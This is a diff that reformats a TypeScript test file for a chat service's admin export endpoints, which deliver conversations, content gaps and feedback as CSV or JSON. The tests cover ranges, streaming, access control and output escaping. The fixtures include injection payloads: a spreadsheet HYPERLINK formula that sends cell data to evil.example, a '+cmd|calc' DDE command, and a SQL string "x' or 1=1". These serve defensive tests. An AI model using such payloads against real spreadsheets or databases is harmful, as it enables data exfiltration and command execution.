@@ -21,7 +21,11 @@ beforeAll(async () => {
   api = { ...created, app: created.instance({ admin: { exportPageRows: PAGE } }) };
   admin = await tokenFor({ role: 'admin' });
   const userId = await api.store.createAnonymousUser();
-  session = (await owner<{ id: string }>(`insert into chat_sessions (user_id, title) values ($1, 'Export') returning id`, [userId]))[0]!.id;
+  session = (
+    await owner<{ id: string }>(`insert into chat_sessions (user_id, title) values ($1, 'Export') returning id`, [
+      userId,
+    ])
+  )[0]!.id;
   await owner(
     `with q as (
        insert into chat_messages (session_id, role, content, created_at)
@@ -35,16 +39,40 @@ beforeAll(async () => {
   // Three hand-made turns in January: a cited, rated answer with a context note; a refusal whose question is
   // a spreadsheet formula, rated 👎 with a formula comment; and one on the range's end (excluded).
   const cited = await turn('2026-01-10T10:00:00Z', 'How do refunds work?', 'Within 14 days [1].', {
-    citations: [{ n: 1, title: 'Billing', section: 'Refunds', url: '/docs/billing#refunds', chunk_id: crypto.randomUUID(), document_id: crypto.randomUUID(), similarity: 0.9 }],
+    citations: [
+      {
+        n: 1,
+        title: 'Billing',
+        section: 'Refunds',
+        url: '/docs/billing#refunds',
+        chunk_id: crypto.randomUUID(),
+        document_id: crypto.randomUUID(),
+        similarity: 0.9,
+      },
+    ],
     meta: { kind: 'answer', confidence: 'high', mode: 'vector', context: 'Follow-up to: What plans are there?' },
   });
-  await owner(`insert into chat_feedback (message_id, user_id, rating, comment, updated_at) values ($1, $2, 1, 'Clear, thanks', '2026-01-10T10:05:00Z')`, [cited, userId]);
-  const refused = await turn('2026-01-20T09:00:00Z', '=HYPERLINK("http://evil.example/?"&A1)', 'I could not find that in the documentation.', {
-    citations: null,
-    meta: { kind: 'refusal', reason: 'no_evidence' },
+  await owner(
+    `insert into chat_feedback (message_id, user_id, rating, comment, updated_at) values ($1, $2, 1, 'Clear, thanks', '2026-01-10T10:05:00Z')`,
+    [cited, userId],
+  );
+  const refused = await turn(
+    '2026-01-20T09:00:00Z',
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    'I could not find that in the documentation.',
+    {
+      citations: null,
+      meta: { kind: 'refusal', reason: 'no_evidence' },
+    },
+  );
+  await owner(
+    `insert into chat_feedback (message_id, user_id, rating, comment, updated_at) values ($1, $2, -1, '@SUM(1+1)', '2026-01-20T09:01:00Z')`,
+    [refused, userId],
+  );
+  await turn('2026-02-01T00:00:00Z', 'Asked on the end of the range', 'Not exported.', {
+    citations: [],
+    meta: { kind: 'answer' },
   });
-  await owner(`insert into chat_feedback (message_id, user_id, rating, comment, updated_at) values ($1, $2, -1, '@SUM(1+1)', '2026-01-20T09:01:00Z')`, [refused, userId]);
-  await turn('2026-02-01T00:00:00Z', 'Asked on the end of the range', 'Not exported.', { citations: [], meta: { kind: 'answer' } });
   await owner(
     `insert into content_gaps (question_key, question, reason, asked, first_asked_at, last_asked_at) values
        ('do you ship to mars?', 'Do you ship to Mars?', 'no_evidence', 3, '2026-01-05T00:00:00Z', '2026-01-25T00:00:00Z'),
@@ -56,11 +84,26 @@ afterAll(() => api?.close());
 
 const owner = async <T>(sql: string, params: unknown[] = []) => (await api.store.db.query<T>(sql, params)).rows;
 
-async function turn(at: string, question: string, answer: string, extra: { citations: unknown; meta: object }): Promise<string> {
-  const [q] = await owner<{ id: string }>(`insert into chat_messages (session_id, role, content, created_at) values ($1, 'user', $2, $3) returning id`, [session, question, at]);
+async function turn(
+  at: string,
+  question: string,
+  answer: string,
+  extra: { citations: unknown; meta: object },
+): Promise<string> {
+  const [q] = await owner<{ id: string }>(
+    `insert into chat_messages (session_id, role, content, created_at) values ($1, 'user', $2, $3) returning id`,
+    [session, question, at],
+  );
   const [a] = await owner<{ id: string }>(
     `insert into chat_messages (session_id, role, content, reply_to, citations, meta, created_at) values ($1, 'assistant', $2, $3, $4, $5, $6) returning id`,
-    [session, answer, q!.id, extra.citations === null ? null : JSON.stringify(extra.citations), JSON.stringify(extra.meta), at],
+    [
+      session,
+      answer,
+      q!.id,
+      extra.citations === null ? null : JSON.stringify(extra.citations),
+      JSON.stringify(extra.meta),
+      at,
+    ],
   );
   return a!.id;
 }
@@ -68,7 +111,11 @@ async function turn(at: string, question: string, answer: string, extra: { citat
 async function tokenFor(appMetadata: Record<string, unknown>): Promise<string> {
   const userId = await api.store.createAnonymousUser();
   const now = Math.floor(Date.now() / 1000);
-  return sign({ sub: userId, role: 'authenticated', aud: 'authenticated', app_metadata: appMetadata, iat: now, exp: now + 600 }, TEST_SECRET, 'HS256');
+  return sign(
+    { sub: userId, role: 'authenticated', aud: 'authenticated', app_metadata: appMetadata, iat: now, exp: now + 600 },
+    TEST_SECRET,
+    'HS256',
+  );
 }
 
 const download = (kind: string, query: string, token: string | null = admin) =>
@@ -94,14 +141,17 @@ function parseCsv(text: string): string[][] {
   }
   return rows;
 }
-const records = (rows: string[][]) => rows.slice(1).map((r) => Object.fromEntries(rows[0]!.map((name, i) => [name, r[i]!])));
+const records = (rows: string[][]) =>
+  rows.slice(1).map((r) => Object.fromEntries(rows[0]!.map((name, i) => [name, r[i]!])));
 
 describe('GET /api/admin/export/conversations', () => {
   it('writes the range as JSON: citations, rating, comment and the context note; the end of the range excluded', async () => {
     const res = await download('conversations', `format=json&${JANUARY}`);
     expect(res.status).toBe(200);
     expect(res.headers.get('Content-Type')).toMatch(/^application\/json/);
-    expect(res.headers.get('Content-Disposition')).toMatch(/^attachment; filename="kb-chat-conversations-\d{4}-\d\d-\d\d\.json"$/);
+    expect(res.headers.get('Content-Disposition')).toMatch(
+      /^attachment; filename="kb-chat-conversations-\d{4}-\d\d-\d\d\.json"$/,
+    );
     expect(res.headers.get('Cache-Control')).toBe('no-store');
     const list = (await res.json()) as ConversationRecord[];
     expect(list.map((c) => [c.question, c.kind, c.rating, c.comment])).toEqual([
@@ -147,7 +197,8 @@ describe('GET /api/admin/export/conversations', () => {
       expect(spy.mock.calls.length).toBeLessThan(4);
       const decoder = new TextDecoder();
       let text = decoder.decode(first.value, { stream: true });
-      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) text += decoder.decode(chunk.value, { stream: true });
+      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read())
+        text += decoder.decode(chunk.value, { stream: true });
       const rows = records(parseCsv(text));
       expect(rows).toHaveLength(BULK);
       expect(new Set(rows.map((r) => r.question_id)).size).toBe(BULK);
@@ -176,7 +227,7 @@ describe('GET /api/admin/export/gaps and /feedback', () => {
       ['+cmd|calc', 1],
       ['do you ship to mars?', 3],
     ]);
-    const rows = records(parseCsv((await (await download('gaps', `format=csv&${JANUARY}`)).text())));
+    const rows = records(parseCsv(await (await download('gaps', `format=csv&${JANUARY}`)).text()));
     expect(rows.map((r) => [r.question_key, r.question, r.asked])).toEqual([
       [`'+cmd|calc`, `'+cmd|calc`, '1'],
       ['do you ship to mars?', 'Do you ship to Mars?', '3'],
@@ -189,21 +240,32 @@ describe('GET /api/admin/export/gaps and /feedback', () => {
       [1, 'Clear, thanks', 'How do refunds work?', 'answer'],
       [-1, '@SUM(1+1)', '=HYPERLINK("http://evil.example/?"&A1)', 'refusal'],
     ]);
-    const rows = records(parseCsv((await (await download('feedback', 'format=csv&from=2026-01-15T00:00:00Z&to=2026-02-01T00:00:00Z')).text())));
-    expect(rows.map((r) => [r.rating, r.comment, r.question])).toEqual([['-1', `'@SUM(1+1)`, `'=HYPERLINK("http://evil.example/?"&A1)`]]);
+    const rows = records(
+      parseCsv(
+        await (await download('feedback', 'format=csv&from=2026-01-15T00:00:00Z&to=2026-02-01T00:00:00Z')).text(),
+      ),
+    );
+    expect(rows.map((r) => [r.rating, r.comment, r.question])).toEqual([
+      ['-1', `'@SUM(1+1)`, `'=HYPERLINK("http://evil.example/?"&A1)`],
+    ]);
     // Nothing rated in February: an empty but well-formed file.
-    expect(await (await download('feedback', 'format=json&from=2026-02-01T00:00:00Z&to=2026-03-01T00:00:00Z')).json()).toEqual([]);
+    expect(
+      await (await download('feedback', 'format=json&from=2026-02-01T00:00:00Z&to=2026-03-01T00:00:00Z')).json(),
+    ).toEqual([]);
   });
 });
 
 describe('who may export', () => {
-  it.each(['conversations', 'gaps', 'feedback'])('%s: 401 without a token, 403 for a visitor or another role, with no-store', async (kind) => {
-    expect((await download(kind, 'format=csv', null)).status).toBe(401);
-    const visitor = await download(kind, 'format=csv', (await api.signIn()).token);
-    expect(visitor.status).toBe(403);
-    expect(visitor.headers.get('Cache-Control')).toBe('no-store');
-    expect((await download(kind, 'format=json', await tokenFor({ role: 'editor' }))).status).toBe(403);
-  });
+  it.each(['conversations', 'gaps', 'feedback'])(
+    '%s: 401 without a token, 403 for a visitor or another role, with no-store',
+    async (kind) => {
+      expect((await download(kind, 'format=csv', null)).status).toBe(401);
+      const visitor = await download(kind, 'format=csv', (await api.signIn()).token);
+      expect(visitor.status).toBe(403);
+      expect(visitor.headers.get('Cache-Control')).toBe('no-store');
+      expect((await download(kind, 'format=json', await tokenFor({ role: 'editor' }))).status).toBe(403);
+    },
+  );
 
   it('the SQL functions refuse a non-admin themselves', async () => {
     const claims = { sub: crypto.randomUUID(), role: 'authenticated' };
@@ -215,7 +277,11 @@ describe('who may export', () => {
 
   it('the SQL functions refuse a cursor they did not make and an unbounded page', async () => {
     const claims = { sub: crypto.randomUUID(), role: 'authenticated', app_metadata: { role: 'admin' } };
-    await expect(api.store.adminExportConversations(claims, { from: null, to: null, after: "x' or 1=1", limit: 10 })).rejects.toMatchObject({ kind: 'invalid' });
-    await expect(api.store.adminExportFeedback(claims, { from: null, to: null, after: null, limit: 100000 })).rejects.toMatchObject({ kind: 'invalid' });
+    await expect(
+      api.store.adminExportConversations(claims, { from: null, to: null, after: "x' or 1=1", limit: 10 }),
+    ).rejects.toMatchObject({ kind: 'invalid' });
+    await expect(
+      api.store.adminExportFeedback(claims, { from: null, to: null, after: null, limit: 100000 }),
+    ).rejects.toMatchObject({ kind: 'invalid' });
   });
 });
